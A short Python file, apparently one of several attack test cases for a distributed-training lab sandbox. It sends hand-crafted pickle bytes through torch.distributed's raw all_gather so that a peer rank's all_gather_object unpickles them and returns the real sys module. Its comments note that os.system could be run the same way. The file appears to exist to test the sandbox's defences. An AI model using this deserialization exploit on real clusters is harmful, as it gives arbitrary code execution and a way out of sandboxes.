# attack_9: pickle through the allowed collectives. all_gather_object (and broadcast_object_list)
# unpickle what the other ranks send with the real pickle.Unpickler. Every rank runs this same
# file: rank 1 skips all_gather_object and performs its two inner all_gathers itself, sending
# hand-written pickle bytes (GLOBAL builtins.__import__, REDUCE); rank 0's all_gather_object
# unpickles them inside torch -> the real sys module (or os.system(...) run). Lab: any lab with
# the collectives (ddp, zero, zero3, capstone, fsdp2, ...); ring_allreduce has none of the
# *_object collectives but pickle over send/recv is not possible there.
import torch
import torch.distributed as dist

PAYLOAD = b"cbuiltins\n__import__\n(Vsys\ntR."
LEAK = [None, None]
if dist.get_rank() == 0:
    dist.all_gather_object(LEAK, "harmless")
else:
    data = torch.tensor(list(PAYLOAD), dtype=torch.uint8)
    sizes = [torch.zeros(1, dtype=torch.long) for _ in range(2)]
    dist.all_gather(sizes, torch.tensor([len(PAYLOAD)]))
    width = int(max(sizes).item())
    data = torch.cat([data, torch.zeros(width - len(PAYLOAD), dtype=torch.uint8)])
    dist.all_gather([torch.empty(width, dtype=torch.uint8) for _ in range(2)], data)
LEAK_from_rank1 = LEAK[1]
